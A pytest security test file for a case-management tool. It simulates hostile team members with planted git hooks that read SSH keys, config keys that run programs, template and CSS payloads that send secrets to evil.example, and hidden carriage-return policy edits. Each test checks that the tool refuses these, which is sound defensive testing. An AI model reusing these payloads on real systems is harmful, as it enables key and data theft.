"""Round 4 of the security review (issue 15): trust at the team boundary.

Each test performs one attack end to end, as a hostile team member, a removed member or a thief
would, against what arrives from a shared folder, a USB stick, a clone or a share.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from cmtk.errors import CmtkError, DecryptError
from cmtk.store import identity
from cmtk.store.session import Store
from cmtk.team import remotes, sync
from tests.test_sync import _team

# Every hook git knows (`git help hooks`, git 2.39-2.47), and a few it may learn: none may ever run.
GIT_HOOKS = (
    "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg "
    "post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive "
    "post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate "
    "fsmonitor-watchman p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change"
).split()


def _git(root: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x"}
    env["GIT_COMMITTER_EMAIL"] = "x@x"
    return subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True, check=True, env=env).stdout


def _publish(evil: Path, message: str, force: bool = False) -> None:
    """Commit everything in the attacker's copy and push it to the shared remote."""
    _git(evil, "add", "-A")
    _git(evil, "commit", "-q", "-m", message)
    _git(evil, "push", "-q", *(["-f"] if force else []), "origin", "HEAD:main")


def _plant_hooks(folder: Path, marker: Path) -> None:
    """Every hook, a hook folder named in the repository's config, and config that runs programs."""
    script = f'#!/bin/sh\necho "$0" >> {marker}\ncat {Path.home()}/.ssh/id_rsa >/dev/null 2>&1\nexit 0\n'
    elsewhere = folder.parent / f"{folder.name}-evil-hooks"
    for hooks in (folder / "hooks", elsewhere):
        hooks.mkdir(exist_ok=True)
        for name in GIT_HOOKS:
            (hooks / name).write_text(script)
            (hooks / name).chmod(0o755)
    program = folder.parent / f"{folder.name}-evil.sh"
    program.write_text(script)
    program.chmod(0o755)
    for key, value in (
        ("core.hooksPath", str(elsewhere)),
        ("core.fsmonitor", str(program)),
        ("core.alternateRefsCommand", str(program)),
        ("receive.autogc", "true"),
        ("gc.auto", "1"),
        ("gc.autoDetach", "false"),
        ("receive.denyCurrentBranch", "updateInstead"),
        ("uploadpack.packObjectsHook", str(program)),
        ("core.sshCommand", str(program)),
        ("filter.evil.smudge", str(program)),
        ("filter.evil.clean", str(program)),
        ("filter.evil.process", str(program)),
        ("diff.external", str(program)),
    ):
        _git(folder, "config", key, value)
    (folder / "info").mkdir(exist_ok=True)
    (folder / "info" / "attributes").write_text("* filter=evil\n")


# -- 1. nothing stored on a share, stick or server is executed by any git command cmtk runs ---------------


def test_item1_hooks_and_config_in_the_shared_folder_never_run_on_sync_or_clone(tmp_path):
    (amina, baraka, _), url = _team(tmp_path)
    marker = tmp_path / "hook-ran"
    _plant_hooks(Path(url), marker)
    from tests.test_sync import _case

    _case(amina, "Neema")
    amina.sync()  # push: receive-pack runs in the shared repository
    _case(baraka, "Imani")
    baraka.sync()  # fetch and merge, then push
    pair = identity.create(tmp_path / "dan.key")
    from cmtk.team import rotation

    rotation.add_member(amina.session(), "Dan", pair.public)
    amina.sync()  # fetch: upload-pack runs in the shared repository
    remotes.clone(url, tmp_path / "dan-laptop", pair)  # clone: upload-pack (or a local copy)
    ran = marker.read_text() if marker.exists() else ""
    assert ran == "", f"programs from the shared folder ran: {ran}"
    assert len(Store(amina.root).case_ids()) == 2


def test_item1_a_proc_receive_hook_never_runs_the_push_is_refused_instead(tmp_path):
    """receive.procReceiveRefs hands the push to a hook: without hooks git refuses it, and nothing runs."""
    (amina, _, _), url = _team(tmp_path)
    marker = tmp_path / "hook-ran"
    _plant_hooks(Path(url), marker)
    _git(Path(url), "config", "receive.procReceiveRefs", "refs/heads")
    from tests.test_sync import _case

    _case(amina, "Neema")
    with pytest.raises(CmtkError, match="could not send"):
        amina.sync()
    assert not marker.exists()


def test_item1_hooks_do_not_run_through_a_hand_added_non_bare_remote(tmp_path):
    """A remote that is another copy's working folder (not bare): push-to-checkout, filters, fsmonitor."""
    (amina, baraka, _), _url = _team(tmp_path)
    marker = tmp_path / "hook-ran"
    _plant_hooks(baraka.root / ".git", marker)
    remotes.add_remote(Store(amina.root), "baraka", str(baraka.root))
    from tests.test_sync import _case

    _case(amina, "Neema")
    with pytest.raises(CmtkError):  # pushing into a checked-out branch is refused, as git does by default
        sync.sync(amina.session(), "baraka")
    assert not marker.exists()


# -- 2. a cloned store's templates cannot steal the identity; a printed page cannot load or send anything ---

STEAL = '<img srcset="https://evil.example/k?{% include "secret.txt" %} 1x" alt="">'


def _evil_templates(folder: Path, identity_file: Path) -> None:
    """`.cmtk/templates/`: a link to the victim's identity, and a base page that puts it in an image URL."""
    from cmtk.output import render

    templates = folder / ".cmtk" / "templates"
    templates.mkdir(parents=True)
    (templates / "secret.txt").symlink_to(identity_file)
    base = (render.templates_dir() / "base.html.j2").read_text("utf-8")
    (templates / "base.html.j2").write_text(base.replace("<body>", "<body>\n" + STEAL), "utf-8")


def test_item2_clone_refuses_a_store_whose_templates_link_to_the_identity(tmp_path, monkeypatch):
    (amina, _, _), url = _team(tmp_path)
    dan_key = tmp_path / "dan.key"
    dan = identity.create(dan_key)
    from cmtk.team import rotation

    rotation.add_member(amina.session(), "Dan", dan.public)
    amina.sync()
    evil = tmp_path / "evil"
    subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
    _evil_templates(evil, dan_key)
    _publish(evil, "update cases")

    target = tmp_path / "dan-laptop"
    with pytest.raises(CmtkError, match="never writes"):
        remotes.clone(url, target, dan)
    assert not target.exists()
    # What the attack did when clone took the files: printing a blank form put the secret key in an image URL.
    secret = dan_key.read_text().strip().splitlines()[-1]
    monkeypatch.setenv("CMTK_IDENTITY", str(dan_key))
    from tests.helpers import run_cmtk

    copy = tmp_path / "hand-copy"
    subprocess.run(["git", "clone", "-q", url, str(copy)], check=True, capture_output=True)
    printed = run_cmtk(["--store", str(copy), "form", "render", "identification", "-o", str(tmp_path / "f.html")])
    assert printed.returncode == 1, printed.stdout
    assert "link" in printed.stderr
    assert not (tmp_path / "f.html").exists() or secret not in (tmp_path / "f.html").read_text()


def test_item2_sync_and_clone_apply_the_same_checks(tmp_path):
    """Every kind of file a sync refuses, clone refuses too (clone used to take them all)."""
    (amina, _, _), url = _team(tmp_path)
    dan = identity.create(tmp_path / "dan.key")
    from cmtk.team import rotation

    rotation.add_member(amina.session(), "Dan", dan.public)
    amina.sync()
    for number, (path, content) in enumerate(
        [(".cmtk/templates/print.css", "body{}"), ("notes.txt", "x"), (".cmtk/forms/x.yaml", "a: \r b\n")]
    ):
        evil = tmp_path / f"evil{number}"
        subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
        (evil / path).parent.mkdir(parents=True, exist_ok=True)
        (evil / path).write_text(content)
        _publish(evil, "update cases", force=True)
        with pytest.raises(CmtkError):
            remotes.clone(url, tmp_path / f"dan{number}", dan)
        assert not (tmp_path / f"dan{number}").exists()


def test_item2_a_store_template_cannot_be_a_link_even_when_put_there_by_hand(tmp_path):
    from cmtk.forms import definitions
    from cmtk.output import render

    secret = tmp_path / "identity.txt"
    secret.write_text("AGE-SECRET-KEY-1SECRET\n")
    store = tmp_path / "store"
    _evil_templates(store, secret)
    with pytest.raises(CmtkError, match="link"):
        render.render_html(definitions.load_form("identification"), templates=render.override_dir(store))
    # a link higher up: .cmtk/templates itself, or .cmtk
    other = tmp_path / "other"
    (other / ".cmtk").mkdir(parents=True)
    (other / ".cmtk" / "templates").symlink_to(store / ".cmtk" / "templates")
    with pytest.raises(CmtkError, match="link"):
        render.override_dir(other)
    # a hard link to a file outside the store
    hard = tmp_path / "hard"
    (hard / ".cmtk" / "templates").mkdir(parents=True)
    os.link(secret, hard / ".cmtk" / "templates" / "print.css")
    with pytest.raises(CmtkError, match="hard link"):
        render.render_html(definitions.load_form("identification"), templates=render.override_dir(hard))


def _bundled_template(name: str) -> str:
    from cmtk.output import render

    return (render.templates_dir() / name).read_text("utf-8")


def _print_with_own_template(tmp_path, name: str, text: str, **options) -> str:
    """The identification form printed with the store's own copy of template `name`."""
    from cmtk.forms import definitions
    from cmtk.output import render

    templates = tmp_path / "templates"
    templates.mkdir()
    (templates / name).write_text(text, "utf-8")
    return render.render_html(definitions.load_form("identification"), templates=templates, **options)


@pytest.mark.parametrize(
    "css",
    [
        "</style><script>fetch('https://evil.example/'+document.body.innerText)</script><style>",
        "</STYLE ><img src=x onerror=alert(1)><style>",
        "</style x><img src=https://evil.example/a><style>",
        "body { background: u\\72l(https://evil.example/a) }",
        "@\\69mport 'https://evil.example/a.css';",
        "body { background-image: image-set('https://evil.example/a' 1x) }",
        "/* */ @import url(//evil.example/x);",
    ],
)
def test_item2_a_store_print_css_cannot_escape_its_style_element(tmp_path, css):
    with pytest.raises(CmtkError, match="outside itself"):
        _print_with_own_template(tmp_path, "print.css", css, values={})


@pytest.mark.parametrize(
    "markup",
    [
        '<img srcset="https://evil.example/a 1x">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<svg><image href="https://evil.example/a"/></svg>',
        '<link rel="stylesheet" href="https://evil.example/a.css">',
        '<object data="https://evil.example/a"></object>',
        '<div style="background:url(https://evil.example/a)"></div>',
        '<div onclick="alert(1)"></div>',
        '<a href="https://evil.example/">x</a>',
        '<form action="https://evil.example/"><button>x</button></form>',
        '<iframe src="data:text/html,x"></iframe>',
        '<img src="data:text/html,x">',
        "<!--><img src=https://evil.example/a>-->",
        '<svg><use href="#x"/></svg>',
        '<svg><polygon points="0,0" fill="url(https://evil.example/a)"/></svg>',
        '<p style="background:\\75rl(https://evil.example/a)">x</p>',
    ],
)
def test_item2_no_markup_that_loads_or_runs_anything_passes(tmp_path, markup):
    base = _bundled_template("base.html.j2")
    with pytest.raises(CmtkError, match="outside itself"):
        _print_with_own_template(tmp_path, "base.html.j2", base.replace("<body>", "<body>\n" + markup))


def test_item2_every_printed_page_starts_its_head_with_the_policy(tmp_path):
    from cmtk.forms import definitions
    from cmtk.output import render
    from cmtk.output.pagecheck import POLICY_TAG

    for form in definitions.load_all():
        html = render.render_html(form)
        head = html.index("<head>") + len("<head>")
        assert html[head:].lstrip().startswith(POLICY_TAG), form.id
        assert render.check_self_contained(html) == html  # checking again changes nothing
    base = _bundled_template("base.html.j2")
    with pytest.raises(CmtkError, match="before <head>"):
        _print_with_own_template(tmp_path, "base.html.j2", base.replace("<head>", "<title>x</title><head>"))


# -- 3. the fingerprint covers the team; nobody joins the team through the team file alone ----------------


def _tamper_team(url: str, folder: Path, change) -> None:
    subprocess.run(["git", "clone", "-q", url, str(folder)], check=True, capture_output=True)
    team = folder / ".cmtk" / "recipients.txt"
    team.write_text(change(team.read_text()))
    _git(folder, "commit", "-q", "-am", "team add")
    _git(folder, "push", "-q", "origin", "HEAD:main")


def _with_dan(tmp_path: Path):
    (amina, baraka, _), url = _team(tmp_path)
    dan = identity.create(tmp_path / "dan.key")
    from cmtk.team import rotation

    rotation.add_member(amina.session(), "Dan", dan.public)
    amina.sync()
    from cmtk.team import roster

    return amina, baraka, url, dan, roster.fingerprint(amina.session())


def test_item3_a_key_appended_to_the_team_file_does_not_pass_clone_expect(tmp_path):
    amina, _, url, dan, fingerprint = _with_dan(tmp_path)
    mallory = identity.create(tmp_path / "mallory.key")
    _tamper_team(
        url, tmp_path / "evil", lambda text: text + f"\n# member: Mallory | role: caseworker\n{mallory.public}\n"
    )
    with pytest.raises(CmtkError):
        remotes.clone(url, tmp_path / "dan-laptop", dan, expect=fingerprint)
    assert not (tmp_path / "dan-laptop").exists()


def test_item3_a_member_key_swapped_under_their_own_name_is_noticed(tmp_path):
    amina, baraka, url, dan, fingerprint = _with_dan(tmp_path)
    mallory = identity.create(tmp_path / "mallory.key")
    baraka_key = next(m.public for m in Store(amina.root).members() if m.name == "Baraka")
    _tamper_team(url, tmp_path / "evil", lambda text: text.replace(baraka_key, mallory.public))
    with pytest.raises(CmtkError):
        remotes.clone(url, tmp_path / "dan-laptop", dan, expect=fingerprint)
    with pytest.raises(CmtkError):
        remotes.clone(url, tmp_path / "dan-laptop2", dan)
    with pytest.raises(CmtkError, match="team list"):
        baraka.sync()  # a laptop that syncs refuses the team file changed without the store keys


def test_item3_the_fingerprint_changes_with_the_team(tmp_path):
    from cmtk.team import roster, rotation

    amina, _, _, _, fingerprint = _with_dan(tmp_path)
    eve = identity.create(tmp_path / "eve.key")
    rotation.add_member(amina.session(), "Eve", eve.public)
    assert roster.fingerprint(amina.session()) != fingerprint


def test_item3_no_team_change_and_no_doctor_advice_completes_the_attack(tmp_path):
    """The key reaches the team file on this laptop (by hand, or accepted at `team trust`): a team change
    would re-encrypt the store keys to it. It must refuse, and doctor must not advise it."""
    from cmtk.store import doctor
    from cmtk.team import rotation

    amina, _, _, _, _ = _with_dan(tmp_path)
    mallory = identity.create(tmp_path / "mallory.key")
    team = amina.root / ".cmtk" / "recipients.txt"
    team.write_text(team.read_text() + f"\n# member: Mallory | role: caseworker\n{mallory.public}\n")
    _git(amina.root, "commit", "-q", "-am", "team add")
    Store(amina.root).accept_team()  # even after the user accepted the list at `cmtk team trust`
    eve = identity.create(tmp_path / "eve.key")
    with pytest.raises(CmtkError, match="store key"):
        rotation.add_member(amina.session(), "Eve", eve.public)
    with pytest.raises(CmtkError, match="store key"):
        rotation.remove_member(amina.session(), "Dan")
    findings = [f for f in doctor.check(amina.session()) if f.code == "key-team"]
    assert findings and all("re-run" not in f.message and "team change" not in f.message for f in findings)
    for generation in Store(amina.root).generations():
        from cmtk.store import crypto

        data = Store(amina.root).key_path(generation).read_bytes()
        with pytest.raises(DecryptError):
            crypto.decrypt(data, [mallory.identity], "key")


# -- 4. a removed member cannot slip a generation, records or team edits past the laptop that removed her ---


def _with_mallory_copy(tmp_path: Path):
    """A team with Mallory, who has her own synced copy; Amina then removes her but has not synced yet."""
    from cmtk.team import rotation

    (amina, baraka, chebet), url = _team(tmp_path)
    mallory_key = tmp_path / "mallory.key"
    mallory = identity.create(mallory_key)
    rotation.add_member(amina.session(), "Mallory", mallory.public)
    amina.sync()
    for laptop in (baraka, chebet):
        laptop.sync()
        Store(laptop.root).accept_team()
    remotes.clone(url, tmp_path / "mallory-laptop", mallory)
    from tests.test_sync import Laptop

    evil = Laptop("Mallory", mallory_key, tmp_path / "mallory-laptop")
    rotation.remove_member(amina.session(), "Mallory")  # generation 2 on Amina's laptop only
    return amina, baraka, chebet, evil, url


def _forged_note(laptop, case_id: str, claimed_author: str) -> None:
    import dataclasses

    from cmtk.casework import cases
    from tests.helpers import minimal_body

    session = laptop.session()
    record = cases.new_record(session, case_id, "case-notes", minimal_body("case-notes"), None)
    record = dataclasses.replace(record, created_by=claimed_author)
    session.save(case_id, [record], "create")


@pytest.mark.parametrize("drop_colleague", [False, True])
def test_item4_a_removed_members_own_next_generation_is_refused(tmp_path, drop_colleague):
    from cmtk.team import rotation
    from tests.test_sync import _case

    amina, baraka, chebet, mallory, _ = _with_mallory_copy(tmp_path)
    case_id = _case(baraka, "Neema")
    baraka.sync()
    mallory.sync()
    # Mallory, with the generation-1 key she still holds, makes her own generation 2 (dropping Chebet, or
    # removing nobody but herself from nothing) and writes a note in Baraka's name with it.
    if drop_colleague:
        rotation.remove_member(mallory.session(), "Chebet")
    else:
        eve = identity.create(tmp_path / "eve.key")
        rotation.add_member(mallory.session(), "Eve", eve.public)
        rotation.remove_member(mallory.session(), "Eve")
    _forged_note(mallory, case_id, "Baraka")
    mallory.sync()
    before = Store(amina.root).git.head()
    with pytest.raises(CmtkError, match="removed on this laptop"):
        amina.sync()
    store = Store(amina.root)
    assert store.git.head() == before
    assert {m.name for m in store.members()} == {"Amina", "Baraka", "Chebet"}
    assert case_id not in store.case_ids()


def test_item4_a_generation_claiming_a_colleague_as_its_maker_is_refused(tmp_path):
    """Mallory writes the maker lines herself, naming Baraka: the proof meant for Amina does not check out."""
    from cmtk.store import crypto
    from cmtk.team import roster

    amina, baraka, _, mallory, url = _with_mallory_copy(tmp_path)
    session = mallory.session()
    old = session.key(1)
    new = crypto.generate()
    members = session.store.members()
    baraka_public = next(m.public for m in members if m.name == "Baraka")
    lines = [f"made-by: {baraka_public}", *(f"proof: {m.public} {'0' * 64}" for m in members)]
    text = roster.key_file_text(new, 2, members, roster.authorisation(old, 2, new.public), lines)
    evil = tmp_path / "evil"
    subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
    (evil / ".cmtk" / "keys" / "2.age").write_bytes(
        crypto.encrypt(text.encode(), [crypto.parse_recipient(m.public) for m in members])
    )
    _publish(evil, "rotate keys")
    with pytest.raises(CmtkError, match="removed on this laptop"):
        amina.sync()


def test_item4_two_real_offline_removals_still_merge(tmp_path):
    """The rule leaves the legitimate case alone: Baraka removed Chebet while Amina removed Mallory."""
    from cmtk.team import rotation

    amina, baraka, chebet, _mallory, _ = _with_mallory_copy(tmp_path)
    rotation.remove_member(baraka.session(), "Chebet")
    baraka.sync()
    outcome = amina.sync()
    assert outcome.new_generation == 3
    assert {m.name for m in Store(amina.root).members()} == {"Amina", "Baraka"}


def test_item4_a_team_list_that_drops_a_member_without_a_new_key_is_refused(tmp_path):
    """A member (who holds the current key) re-encrypts the key files to the team without a colleague."""
    from cmtk.store import crypto
    from cmtk.team import roster

    (amina, baraka, chebet), url = _team(tmp_path)
    session = amina.session()
    remaining = [m for m in session.store.members() if m.name != "Chebet"]
    evil = tmp_path / "evil"
    subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
    (evil / ".cmtk" / "recipients.txt").write_text(roster.format_recipients(remaining))
    text = roster.key_file_text(session.key(1), 1, remaining, maker=roster.key_file_maker_lines(session.key_text(1)))
    (evil / ".cmtk" / "keys" / "1.age").write_bytes(
        crypto.encrypt(text.encode(), [crypto.parse_recipient(m.public) for m in remaining])
    )
    _publish(evil, "team add")
    with pytest.raises(CmtkError, match="without a new"):
        baraka.sync()
    assert "Chebet" in {m.name for m in Store(baraka.root).members()}


# -- 5. control characters cannot falsify the settings confirmation ----------------------------------------

HIDDEN_GATES = (
    "workflow: {gates: {2: [], 3: [], 4: [], 5: [], 6: [], 7: [], 8: []}}\r"
    "# (unchanged: the default gates apply)                                   \n"
)


def test_item5_carriage_returns_in_policy_cannot_hide_a_change_at_sync(tmp_path):
    (amina, baraka, _), url = _team(tmp_path)
    evil = tmp_path / "evil"
    subprocess.run(["git", "clone", "-q", url, str(evil)], check=True, capture_output=True)
    with open(evil / ".cmtk" / "policy.yaml", "a", newline="") as handle:
        handle.write(HIDDEN_GATES)
    _git(evil, "commit", "-q", "-am", "update cases")
    _git(evil, "push", "-q", "origin", "HEAD:main")
    shown = []

    def accept(paths, diff):
        shown.append(diff)
        return True

    with pytest.raises(CmtkError, match="control or direction character"):
        sync.sync(baraka.session(), confirm_settings=accept)
    assert not shown  # refused before anything is shown or accepted
    assert b"\r" not in (baraka.root / ".cmtk" / "policy.yaml").read_bytes()


def test_item5_control_characters_are_refused_in_local_settings_policy_and_forms(tmp_path):
    from cmtk.casework import policy
    from cmtk.forms import definitions
    from cmtk.store import files

    (amina, _, _), _ = _team(tmp_path)
    root = amina.root
    with open(root / ".cmtk" / "policy.yaml", "a", newline="") as handle:
        handle.write(HIDDEN_GATES)
    with pytest.raises(CmtkError, match="control or direction character"):
        policy.load(root)
    (root / ".cmtk" / "forms").mkdir()
    builtin = (definitions.builtin_dir() / "case-notes.yaml").read_text("utf-8")
    (root / ".cmtk" / "forms" / "case-notes.yaml").write_text(builtin.replace("title:", "title:\u202e", 1), "utf-8")
    with pytest.raises(CmtkError, match="control or direction character"):
        definitions.load_form("case-notes", root)
    settings = root / ".cmtk" / "settings.yaml"
    settings.write_bytes(settings.read_bytes() + b"organisation: Other\x1b[2K\n")
    with pytest.raises(CmtkError, match="control or direction character"):
        files.read_settings(root)
    assert files.visible("gates: []\r# fine") == "gates: []\\x0d# fine"
    files.check_plain_text("windows: yes\r\nline endings: fine\r\n", "x")  # CRLF files from Windows editors pass


# -- 10. a kill during `case new` leaves nothing that doctor passes as clean --------------------------------


def test_item10_an_empty_case_folder_left_by_a_kill_is_found_and_repaired(tmp_path):
    import sys

    from cmtk.store import doctor
    from tests.helpers import make_store

    session, key_path = make_store(tmp_path)
    root = session.store.root
    killed = subprocess.run(
        [
            sys.executable,
            "-c",
            "import os\n"
            "from cmtk.store import files, session as s\n"
            "from cmtk.casework import cases\n"
            "from tests.helpers import minimal_body\n"
            "real = files.write_temp\n"
            "def killed(folder, data):  # the process dies right after the case folder was made\n"
            "    if 'cases' in str(folder):\n"
            "        os._exit(9)\n"
            "    return real(folder, data)\n"
            "files.write_temp = killed\n"
            f"cases.create_case(s.Store({str(root)!r}).unlock({str(key_path)!r}), 'identification', "
            "minimal_body('identification'))\n",
        ],
        cwd=Path(__file__).parent.parent,
        capture_output=True,
        text=True,
    )
    assert killed.returncode == 9, killed.stderr
    left = [p for p in (root / "cases").rglob("*") if p.is_dir() and p.parent.parent.name == "cases"]
    assert left and not any(left[0].iterdir())
    fresh = Store(root).unlock(key_path)
    findings = doctor.check(fresh)
    assert any(f.code == "empty-folder" for f in findings), findings
    done = doctor.repair(fresh)
    assert any("empty" in line for line in done)
    assert not left[0].exists()
    assert doctor.check(Store(root).unlock(key_path)) == []
    assert Store(root).case_ids() == []


# -- 11. a passphrase that falls to a dictionary is refused unless the user insists --------------------------


@pytest.mark.parametrize("weak", ["abc123", "password1234", "Kenya2026!", "aaaaaaaaaaaaaaaa", "Tumaini CCI 2026"])
def test_item11_a_guessable_passphrase_is_refused(tmp_path, weak):
    from tests.helpers import invoke

    path = tmp_path / "me.age"
    result = invoke(
        ["--identity", str(path), "init", str(tmp_path / "store"), "--org", "Tumaini CCI", "--passphrase"],
        env={"CMTK_PASSPHRASE": weak},
    )
    assert result.exit_code == 1 and ("easy to guess" in result.output or "short" in result.output), result.output
    assert not path.exists() and not (tmp_path / "store").exists()
    kept = invoke(
        ["--identity", str(path), "init", str(tmp_path / "store"), "--org", "Tumaini CCI", "--passphrase"]
        + ["--weak-passphrase"],
        env={"CMTK_PASSPHRASE": weak},
    )
    assert kept.exit_code == 0 and "Warning" in kept.output and path.exists()


def test_item11_four_unrelated_words_pass(tmp_path):
    from tests.helpers import invoke

    result = invoke(
        ["--identity", str(tmp_path / "me.age"), "key", "new", "--passphrase"],
        env={"CMTK_PASSPHRASE": "mango tractor velvet lagoon"},
    )
    assert result.exit_code == 0 and "Warning" not in result.output, result.output


# -- 7. a stolen laptop shows no more than the threat model says --------------------------------------------


def test_item7_a_case_review_is_the_same_size_as_any_other_record(tmp_path):
    from cmtk.casework import cases
    from cmtk.store import crypto, records
    from tests.helpers import make_store, minimal_body

    session, _ = make_store(tmp_path)
    case_id = cases.create_case(session, "identification", minimal_body("identification"))
    for form in ("case-review", "monitoring", "case-notes", "child-assessment", "placement"):
        record = cases.new_record(session, case_id, form, minimal_body(form), None)
        session.save(case_id, [record], "create")
    files = list(session.store.case_dir(case_id).glob("*.age"))
    assert {len(session.decrypt_file(p)) for p in files} == {2048}  # one size for every form
    sizes = [p.stat().st_size for p in files]
    assert max(sizes) - min(sizes) < 400, sizes  # what is left is age's random "grease" stanza
    # the padding buckets themselves: a long record shows only its order of magnitude
    assert [crypto.padded_size(n) for n in (10, 1300, 2100, 5000)] == [2048, 2048, 4096, 8192]
    assert records.unpad(crypto.pad(b"a: 1\n")) == b"a: 1\n"


def test_item7_resolving_a_conflict_is_an_ordinary_update_in_the_history(tmp_path):
    from cmtk.team import conflicts
    from tests.test_sync import _edited_on_both

    amina, baraka, case_id = _edited_on_both(tmp_path, "nickname", "Mimi")
    amina.sync()
    baraka.sync()
    conflicts.resolve(baraka.session(), case_id, 1, "other")
    messages = _git(baraka.root, "log", "--format=%s").split("\n")
    assert messages[0] == f"update {case_id}"
    assert not any(m.startswith("resolve") for m in messages)


# -- 8. the USB bundle does not tell the team's size -----------------------------------------------------------


def test_item8_the_bundle_header_does_not_show_the_team_size(tmp_path):
    from cmtk.store import doctor
    from cmtk.team import rotation

    (amina, baraka, _), url = _team(tmp_path, "bundle")
    three = doctor.stanza_count(Path(url).read_bytes())
    for name in ("Dan", "Eve"):
        pair = identity.create(tmp_path / f"{name.lower()}.key")
        rotation.add_member(amina.session(), name, pair.public)
    amina.sync()
    five = doctor.stanza_count(Path(url).read_bytes())
    assert three == five == 8
    baraka.sync()  # every member still opens it


# -- 6. the editor writes no copy of the record outside cmtk's private folder -------------------------------


@pytest.mark.skipif(not __import__("shutil").which("vim"), reason="vim is not installed")
def test_item6_vim_backup_and_undo_settings_in_vimrc_leave_no_copy(tmp_path, monkeypatch):
    from tests.helpers import CANARY_FIRST, add_canary_case, make_store, run_cmtk

    session, key_path = make_store(tmp_path)
    case_id = add_canary_case(session)
    home = tmp_path / "home"
    backups, undo = home / "backup", home / "undo"
    for folder in (backups, undo):
        folder.mkdir(parents=True)
    (home / ".vimrc").write_text(
        f"set backup\nset writebackup\nset backupdir={backups}\nset undofile\nset undodir={undo}\nset swapfile\n"
        f"set directory={home}\n"
    )
    edited = run_cmtk(
        ["--store", str(session.store.root), "--identity", str(key_path), "case", "edit", case_id, "identification"],
        env={"HOME": str(home), "EDITOR": "vim -c %s/Kipepeo7Q/Kipepeo8Q/ -c wq", "VISUAL": ""},
        input="",
    )
    assert edited.returncode == 0, edited.stderr
    assert "Saved identification" in edited.stdout
    left = [p for p in home.rglob("*") if p.is_file() and p.name != ".vimrc"]
    assert left == [], f"the editor left copies of the record: {left}"
    for path in home.rglob("*"):
        if path.is_file():
            assert CANARY_FIRST.encode() not in path.read_bytes()


def test_item6_editors_start_without_the_users_configuration(tmp_path, monkeypatch):
    from cmtk import system
    from cmtk.forms import editing

    # Not every editor is installed here: the flags are what is tested, the program found by name on PATH.
    monkeypatch.setattr(system, "find_program", lambda name: f"/usr/bin/{name}")
    for editor, expected in (("vim", "-u"), ("nvim", "-u"), ("vi", "-u"), ("nano", "-I"), ("emacs", "-Q")):
        monkeypatch.setenv("EDITOR", editor)
        monkeypatch.delenv("VISUAL", raising=False)
        command = editing.editor_command(tmp_path / "x.yaml")
        assert expected in command, (editor, command)
        assert editing.known_editor(command)
    monkeypatch.setenv("EDITOR", "gedit")
    assert not editing.known_editor(editing.editor_command(tmp_path / "x.yaml"))


def test_item6_an_unknown_editor_gets_a_warning(tmp_path, monkeypatch):
    import sys

    from tests.helpers import add_canary_case, make_store, run_cmtk

    session, key_path = make_store(tmp_path)
    case_id = add_canary_case(session)
    script = tmp_path / "myeditor.py"
    script.write_text("import sys\n")
    edited = run_cmtk(
        ["--store", str(session.store.root), "--identity", str(key_path), "case", "edit", case_id, "identification"],
        env={"EDITOR": f"{sys.executable} {script}", "VISUAL": ""},
    )
    assert "does not know how to stop" in edited.stderr


# -- 9. a share says who made it, and an unproven sender is said plainly ------------------------------------


def _two_agencies(tmp_path):
    import datetime as dt

    from cmtk.casework import cases
    from tests.helpers import canary_body
    from tests.test_share import Side

    sender = Side(tmp_path / "sender", "Amina Otieno", "Tumaini Children's Home")
    receiver = Side(tmp_path / "receiver", "Rita Wekesa", "Upendo Rescue Centre")
    body = canary_body()
    body.pop("notes")
    case_id = cases.open_case(sender.session, body, date=dt.date(2026, 10, 1), today=dt.date(2026, 11, 24))
    return sender, receiver, case_id


def test_item9_a_crafted_share_claiming_the_sub_county_office_is_said_to_be_unproven(tmp_path):
    """Anyone who knows the receiver's public key can make a share: it must not pass as the office's."""
    from cmtk.store import yamlio
    from tests.test_share import _open, _seal

    sender, receiver, case_id = _two_agencies(tmp_path)
    made = sender.run("share", case_id, "--to", receiver.public, "-o", str(tmp_path / "real.age"))
    assert made.exit_code == 0, made.output
    document = _open(tmp_path / "real.age", receiver.key_path)
    document["organisation"] = "Sub-County Children's Office"
    document["shared_by"] = "Children's Officer"
    (tmp_path / "crafted.age").write_bytes(_seal(yamlio.dumps(document).encode(), receiver.public))
    result = receiver.run("case", "import", str(tmp_path / "crafted.age"))
    assert result.exit_code == 0, result.output
    assert "not signed" in result.output and "nothing proves who made it" in result.output


def test_item9_a_signed_share_from_an_accepted_sender_is_named_and_a_changed_one_refused(tmp_path):
    from cmtk.store import crypto, signing
    from tests.test_share import _seal

    sender, receiver, case_id = _two_agencies(tmp_path)
    shown = sender.run("key", "show")
    key = next(line.split()[2] for line in shown.output.splitlines() if line.startswith("Signing key:"))
    assert key == signing.signing_public(crypto.parse_identity_text(sender.key_path.read_text(), "k"))
    assert sender.run("share", case_id, "--to", receiver.public, "-o", str(tmp_path / "a.age")).exit_code == 0
    unknown = receiver.run("case", "import", str(tmp_path / "a.age"))
    assert unknown.exit_code == 0 and "have not accepted" in unknown.output and key in unknown.output
    assert receiver.run("key", "accept", "Amina at Tumaini", key).exit_code == 0
    assert sender.run("share", case_id, "--to", receiver.public, "-o", str(tmp_path / "b.age")).exit_code == 0
    known = receiver.run("case", "import", str(tmp_path / "b.age"))
    assert known.exit_code == 0 and "Signed by Amina at Tumaini" in known.output, known.output
    # the same signed file with one value changed: refused
    import pyrage

    me = crypto.parse_identity_text(receiver.key_path.read_text(), "k")
    assert sender.run("share", case_id, "--to", receiver.public, "-o", str(tmp_path / "c.age")).exit_code == 0
    plain = pyrage.decrypt((tmp_path / "c.age").read_bytes(), [me.identity])
    (tmp_path / "d.age").write_bytes(_seal(plain.replace(b"Tumaini", b"Tumainx", 1), receiver.public))
    changed = receiver.run("case", "import", str(tmp_path / "d.age"))
    assert changed.exit_code == 1 and "signature" in changed.output


